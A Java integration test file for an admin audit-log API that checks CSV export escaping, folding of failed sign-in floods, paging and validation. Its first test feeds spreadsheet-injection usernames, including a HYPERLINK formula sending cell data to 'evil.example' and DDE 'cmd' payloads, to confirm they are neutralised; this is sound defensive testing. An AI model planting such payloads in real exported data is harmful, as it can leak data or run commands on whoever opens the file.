package io.watchfloor.admin;

import io.watchfloor.PgTest;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import io.watchfloor.MutableClock;
import io.watchfloor.TestDatabase;
import io.watchfloor.TestServer;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.StringReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The audit on PostgreSQL as an admin reads it when strangers are busy at the sign-in form: no cell of
 * its CSV is a spreadsheet formula, a flood of failed sign-ins neither hides a change nor cuts the list
 * without saying so, and the list pages and filters.
 */
@PgTest
class AuditPgTest extends AdminServerBase {
  private static final String DB = "wf_test_audit_pg";

  @BeforeAll
  static void start() {
    // budgets wide enough for the floods below; the guard itself is SignInFloodTest's
    JsonObject signIn = new JsonObject().put("per-address-per-minute", 10_000).put("per-user-per-address-per-minute", 10_000);
    serve(TestServer.start(new JsonObject().put("http", new JsonObject().put("sign-in", signIn))
        .put("store", TestServer.postgresStore(TestDatabase.fresh(DB))),
        MutableClock.system()));
  }

  private static long failedLines(String username) {
    return TestDatabase.count(DB, "SELECT count(*) FROM access_audit WHERE action = 'sign-in.failed' AND target = '"
        + username.replace("'", "''") + "'");
  }

  private static List<CSVRecord> csv(String text) {
    try {
      return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
          .parse(new StringReader(text.substring(1))).getRecords();
    } catch (IOException e) {
      throw new AssertionError(e);
    }
  }

  private static String q(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  @Test
  void aUsernameThatIsAFormulaIsTextInTheCsvAndTheSameInTheJson() {
    List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")", "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
    for (String name : formulas) {
      assertThat(api.signInRaw(name, "whatever").statusCode()).as(name).isEqualTo(401);
    }
    await().atMost(Duration.ofSeconds(10)).until(() -> formulas.stream().allMatch(f -> failedLines(f) == 1));
    String admin = admin();
    HttpResponse<Buffer> answer = api.get("/api/v1/admin/audit?format=csv&action=sign-in.failed", admin);
    assertThat(answer.statusCode()).as(answer.bodyAsString()).isEqualTo(200);
    List<String> targets = csv(answer.bodyAsString()).stream().filter(r -> r.size() > 4).map(r -> r.get("target")).toList();
    for (String name : formulas) {
      assertThat(targets).as("the cell of %s", name).contains("'" + name).doesNotContain(name);
    }
    for (CSVRecord record : csv(answer.bodyAsString())) {
      for (String cell : record) {
        assertThat(cell).as("no cell begins as a formula").doesNotStartWith("=").doesNotStartWith("+")
            .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
      }
    }
    JsonArray json = api.get("/api/v1/admin/audit?action=sign-in.failed", admin).bodyAsJsonObject().getJsonArray("entries");
    assertThat(json.stream().map(o -> ((JsonObject) o).getString("target")).toList())
        .as("the JSON is data, not a spreadsheet: it keeps the name as it was tried").containsAll(formulas);
  }

  @Test
  void aFloodOfFailedSignInsFoldsIntoOneLinePerNameAndAddressAndHidesNoChange() {
    String admin = admin();
    assertThat(api.post("/api/v1/admin/units", admin, AdminApiContract.unit("audit-before", "cp-highway-exit")).statusCode())
        .isEqualTo(201);
    for (int i = 0; i < 25; i++) {
      assertThat(api.signInRaw("flood-duty", "guess-" + i).statusCode()).isEqualTo(401);
    }
    await().atMost(Duration.ofSeconds(10)).until(() -> TestDatabase.count(DB, "SELECT coalesce(sum((after->>'attempts')::int), 0)"
        + " FROM access_audit WHERE action = 'sign-in.failed' AND target = 'flood-duty'") == 25);
    assertThat(failedLines("flood-duty")).as("25 tries of one name from one address are one line").isEqualTo(1);
    JsonObject line = entries(api.get("/api/v1/admin/audit?action=sign-in.failed", admin)).stream()
        .map(JsonObject.class::cast).filter(e -> "flood-duty".equals(e.getString("target"))).findFirst().orElseThrow();
    assertThat(line.getJsonObject("after").getInteger("attempts")).isEqualTo(25);
    assertThat(line.getJsonObject("after").getString("lastAt")).isNotNull();

    // a change between tries keeps the order readable: the tries after it are a line of their own
    assertThat(api.post("/api/v1/admin/units", admin, AdminApiContract.unit("audit-between", "cp-highway-exit")).statusCode())
        .isEqualTo(201);
    assertThat(api.signInRaw("flood-duty", "one-more").statusCode()).isEqualTo(401);
    await().atMost(Duration.ofSeconds(10)).until(() -> failedLines("flood-duty") == 2);
    List<String> order = entries(api.get("/api/v1/admin/audit", admin)).stream().map(JsonObject.class::cast)
        .filter(e -> List.of("flood-duty", "audit-before", "audit-between").contains(e.getString("target")))
        .map(e -> e.getString("action") + " " + e.getString("target")).toList();
    assertThat(order).containsExactly("sign-in.failed flood-duty", "unit.create audit-between", "sign-in.failed flood-duty",
        "unit.create audit-before");
  }

  @Test
  void aLongListIsCutWithNextAndEveryLineIsReachedOncePageByPage() {
    String admin = admin();
    List<String> changes = new ArrayList<>();
    for (int i = 0; i < 3; i++) {
      String id = "audit-page-" + i;
      assertThat(api.post("/api/v1/admin/units", admin, AdminApiContract.unit(id, "cp-highway-exit")).statusCode()).isEqualTo(201);
      changes.add(id);
      for (int j = 0; j < 4; j++) {
        api.signInRaw("page-stranger-" + i + "-" + j, "guess");
      }
    }
    await().atMost(Duration.ofSeconds(10)).until(() -> TestDatabase.count(DB,
        "SELECT count(*) FROM access_audit WHERE target LIKE 'page-stranger-%'") == 12);
    long all = TestDatabase.count(DB, "SELECT count(*) FROM access_audit");

    HttpResponse<Buffer> first = api.get("/api/v1/admin/audit?limit=5", admin);
    assertThat(first.statusCode()).isEqualTo(200);
    assertThat(first.bodyAsJsonObject().getBoolean("truncated")).as("a full page says it is cut").isTrue();
    assertThat(first.bodyAsJsonObject().getString("next")).isNotBlank();
    assertThat(entries(first)).hasSize(5);

    Set<Long> seen = new HashSet<>();
    List<JsonObject> lines = new ArrayList<>();
    String cursor = null;
    int pages = 0;
    do {
      HttpResponse<Buffer> page = api.get("/api/v1/admin/audit?limit=7" + (cursor == null ? "" : "&cursor=" + q(cursor)), admin);
      assertThat(page.statusCode()).as(page.bodyAsString()).isEqualTo(200);
      for (Object o : entries(page)) {
        JsonObject e = (JsonObject) o;
        assertThat(seen.add(e.getLong("id"))).as("line %s once", e.getLong("id")).isTrue();
        lines.add(e);
      }
      cursor = page.bodyAsJsonObject().getBoolean("truncated") ? page.bodyAsJsonObject().getString("next") : null;
      assertThat(pages++).isLessThan(100);
    } while (cursor != null);
    assertThat(seen).as("paging reaches every line of the period").hasSize((int) all);
    for (int i = 1; i < lines.size(); i++) {
      assertThat(lines.get(i).getString("at")).as("newest first").isLessThanOrEqualTo(lines.get(i - 1).getString("at"));
    }

    HttpResponse<Buffer> onlyChanges = api.get("/api/v1/admin/audit?limit=3&action=unit.create", admin);
    assertThat(entries(onlyChanges).stream().map(o -> ((JsonObject) o).getString("action")).distinct().toList())
        .containsExactly("unit.create");
    assertThat(entries(api.get("/api/v1/admin/audit?limit=10000&exclude=sign-in.failed", admin)).stream()
        .map(o -> ((JsonObject) o).getString("target")).toList()).as("the changes, with the flood set aside")
        .containsAll(changes).noneMatch(t -> t.startsWith("page-stranger-"));

    HttpResponse<Buffer> cutCsv = api.get("/api/v1/admin/audit?format=csv&limit=4", admin);
    assertThat(cutCsv.getHeader("Link")).as("the next page of a cut CSV").contains("rel=\"next\"").contains("cursor=");
    List<String> lastLine = cutCsv.bodyAsString().lines().reduce((a, b) -> b).map(List::of).orElseThrow();
    assertThat(lastLine.get(0)).as("a cut CSV says so in its last line").contains("truncated");
    HttpResponse<Buffer> wholeCsv = api.get("/api/v1/admin/audit?format=csv&limit=10000", admin);
    assertThat(wholeCsv.getHeader("Link")).isNull();
    assertThat(wholeCsv.bodyAsString()).doesNotContain("truncated");
  }

  @Test
  void aBadCursorOrActionIs422NamingItAndChangesNothing() {
    String admin = admin();
    long lines = TestDatabase.count(DB, "SELECT count(*) FROM access_audit");
    for (String cursor : List.of("nonsense", "MTIz", "%00", "")) {
      HttpResponse<Buffer> answer = api.get("/api/v1/admin/audit?cursor=" + cursor, admin);
      if (!cursor.isEmpty()) {
        assertThat(answer.statusCode()).as(cursor).isEqualTo(422);
        assertThat(answer.bodyAsJsonObject().getJsonArray("errors").getJsonObject(0).getString("field")).isEqualTo("cursor");
      }
    }
    for (String action : List.of("%00", "a%20b", "x".repeat(200))) {
      HttpResponse<Buffer> answer = api.get("/api/v1/admin/audit?action=" + action, admin);
      assertThat(answer.statusCode()).as(action).isEqualTo(422);
      assertThat(answer.bodyAsJsonObject().getJsonArray("errors").getJsonObject(0).getString("field")).isEqualTo("action");
    }
    assertThat(TestDatabase.count(DB, "SELECT count(*) FROM access_audit")).isEqualTo(lines);
  }

  private static JsonArray entries(HttpResponse<Buffer> answer) {
    assertThat(answer.statusCode()).as(answer.bodyAsString()).isEqualTo(200);
    return answer.bodyAsJsonObject().getJsonArray("entries");
  }
}
